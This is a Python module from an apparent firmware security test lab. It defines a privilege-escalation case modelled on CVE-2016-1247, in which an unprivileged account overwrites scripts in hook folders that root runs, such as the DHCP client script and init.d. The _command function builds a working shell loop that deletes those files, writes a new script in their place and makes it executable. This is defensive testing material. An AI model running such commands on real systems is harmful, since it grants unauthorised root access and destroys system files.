"""A script where root runs hooks, put there by an account without rights."""

from firmward.lab.attacks import Attack, Position, Result
from firmward.lab.means import key_login, low_account
from firmward.lab.means.program import script
from firmward.lab.target import Target, Witness
from firmward.model.chain import PLUG_INS

PLACES = ("/etc/udhcpc/default.script", "/etc/network/if-up.d/own", "/etc/init.d/S00own")
"""Where root runs what lies there: a DHCP client, the network's start, the system's."""


def run(target: Target) -> Result:
    account = low_account.planted(target)
    with target.power(ATTACK.ports) as powered:
        account.said(powered, _command(target))
    target.note(Witness.ATTACKER, f"tried to put a script of his own to {', '.join(PLACES)}, and had it started anew")
    return target.withstands(ATTACK.within, ATTACK.ports)


def _command(target: Target) -> str:
    """A file of somebody else's goes where its folder may be written to."""
    own = script(target.challenge).replace("$", "\\$")
    put = f"rm -f $place; cat >$place <<END\n{own}END\nchmod 755 $place"
    return f"for place in {' '.join(PLACES)}; do\n{put}\ndone; sync"


ATTACK = Attack(
    id="hook-directory-drop",
    title="A script in a folder of hooks",
    does="logs in as an account without rights, and puts a script where the DHCP client or the start runs it as root",
    position=Position.BENCH,
    link=PLUG_INS,
    case="CVE-2016-1247: who may write to one folder that root uses becomes root (nginx on Debian)",
    foretold=("hook-directory-writable", "world-writable", "init-script-writable"),
    run=run,
    takes=55.0,
    ports=(key_login.PORT,),
)
